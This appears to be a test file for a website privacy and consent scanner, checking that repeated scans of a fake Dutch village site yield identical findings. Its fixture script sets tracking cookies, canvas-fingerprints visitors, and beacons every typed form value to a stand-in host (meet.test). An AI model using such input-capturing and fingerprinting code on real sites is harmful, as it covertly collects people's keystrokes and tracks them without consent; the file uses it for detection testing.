/**
 * An unchanged site is told the same each time, by every walk: what it asks, what it sends after a refusal and a yes,
 * what its scripts read, listen to and send, and how it is used. `TIMES=10 npm test -- src/engine/same-again` looks ten
 * times.
 */
import { expect, test } from 'vitest'
import { openGatherer } from './gather.ts'
import { testSite } from './probes/test-site.ts'
import { judgeEvidence, loadRules } from '../apps/rules.ts'

/** What was not there in time, told. */
const whyNot = (visits: readonly (readonly { criterion: string; reason: string }[])[]) =>
  visits
    .map((told) =>
      told.flatMap(({ criterion, reason }) =>
        /^(?:half-seen|unseen)\./.test(reason) ? [`${criterion} ${reason}`] : [],
      ),
    )
    .join('\n')
const TIMES = Number(process.env['TIMES'] ?? 2)

/** A banner that listens to its answer, a field that is listened to, and parts that move and come late. */
const HOME = `<!doctype html><html lang="nl"><title>Dorp</title>
  <style>button:focus { outline: none }</style>
  <div id="vraag" role="dialog" aria-label="Cookies" style="position:fixed;inset:auto 0 0 0;background:#fff;z-index:9">
    <p>Wij gebruiken cookies om u te volgen. Vindt u dat goed?</p>
    <button id="ja">Alles accepteren</button> <button id="nee">Alles weigeren</button></div>
  <main><h1>Dorp</h1><p>Welkom in ons dorp. Hier leest u wanneer de winkel open is en hoe u ons bereikt.</p>
    <a href="/contact">Contact</a> <a href="/privacy">Privacyverklaring</a>
    <form action="/zoek"><label>E-mail <input name="email" type="email"></label></form></main>
  <script>
    const choose = (word) => { document.cookie = 'keuze=' + word + '; max-age=9999999'; vraag.remove() }
    if (document.cookie.includes('keuze=')) vraag.remove()
    ja.onclick = () => { choose('ja'); new Image().src = 'http://reclame.test/p.gif?u=' + Math.random() }
    nee.onclick = () => choose('nee')
  </script><script src="http://meet.test/m.js"></script>`
/** Numbers its visitor, draws to know the machine, hears each key, and sends it late and when the page is left. */
const SCRIPT = `
  document.cookie = '_ga=GA1.1.' + Math.random().toString().slice(2) + '.' + Date.now() + '; max-age=63072000'
  localStorage.setItem('bezoeker', crypto.randomUUID())
  const canvas = document.createElement('canvas'), pen = canvas.getContext('2d')
  pen.fillText('Wie bent u?', 2, 12)
  const drawn = canvas.toDataURL().length
  document.addEventListener('input', ({ target }) =>
    navigator.sendBeacon('http://meet.test/toets', btoa(target.value || '')))
  setTimeout(() => { new Image().src = 'http://meet.test/laat.gif?d=' + drawn + '&t=' + Date.now() }, 700)
  addEventListener('pagehide', () => navigator.sendBeacon('http://meet.test/weg', 'duur=' + performance.now()))`

test('an unchanged site, told the same each time by every walk', { timeout: 120_000 * TIMES }, async () => {
  const site = await testSite({
    '/': HOME,
    '/contact': `${HOME}<p>Bel 0612345678.</p>`,
    '/privacy': `${HOME}<h2>Privacyverklaring</h2><p>Wij bewaren uw gegevens een jaar.</p>`,
    '/m.js': (_, response) => void response.writeHead(200, { 'content-type': 'text/javascript' }).end(SCRIPT),
  })
  const here = '127.0.0.1'
  const gatherer = await openGatherer({
    allow: [`${here}/32`],
    resolver: `${here}:9`,
    hosts: { 'dorp.test': here, 'meet.test': here, 'reclame.test': here },
    ports: { 80: Number(new URL(site.url('/')).port) },
  })
  const rules = await loadRules({ program: '.', data: '.' })
  const look = async () => {
    const signal = AbortSignal.timeout(110_000)
    const { evidence } = await gatherer.gather({ kind: 'website', address: 'dorp.test' }, { signal, progress() {} })
    const subject = { kind: 'website', address: 'dorp.test', publicBody: false } as const
    const { findings } = judgeEvidence(evidence, subject, rules)
    return { evidence, told: findings.map(({ at: _at, ...finding }) => finding) }
  }
  const first = await look()
  // Each walk was there to be compared: else this says nothing of it.
  const phases = new Set(first.evidence.pages.flatMap(({ phase, result }) => (result.seen ? [phase] : [])))
  expect([...phases]).toEqual(expect.arrayContaining(['before-consent', 'after-reject', 'after-accept']))
  const probes = new Set(first.evidence.pages.flatMap(({ probe, result }) => (result.seen ? [probe] : [])))
  expect([...probes]).toEqual(expect.arrayContaining(['session', 'axe', 'consent', 'behaviour', 'use']))
  expect(first.told.filter(({ verdict }) => verdict === 'unmet').length).toBeGreaterThan(5)
  // On a machine that others keep busy a walk may not end in time: then what rests on it is not known.
  const inTime = ({ reason }: { reason: string }) => !/^(?:half-seen|unseen)\./.test(reason)
  for (let again = 1; again < TIMES; again++) {
    const { told } = await look()
    const both = told.flatMap((finding, at) =>
      inTime(finding) && inTime(first.told[at]!) ? [[finding, first.told[at]!] as const] : [],
    )
    expect(both.map(([now]) => now)).toEqual(both.map(([, then]) => then))
    // What was not there in time was not compared: then it may not be much.
    expect(both.length, whyNot([told, first.told])).toBeGreaterThan((first.told.length * 3) / 4)
  }
  await gatherer.close()
  await site.close()
})
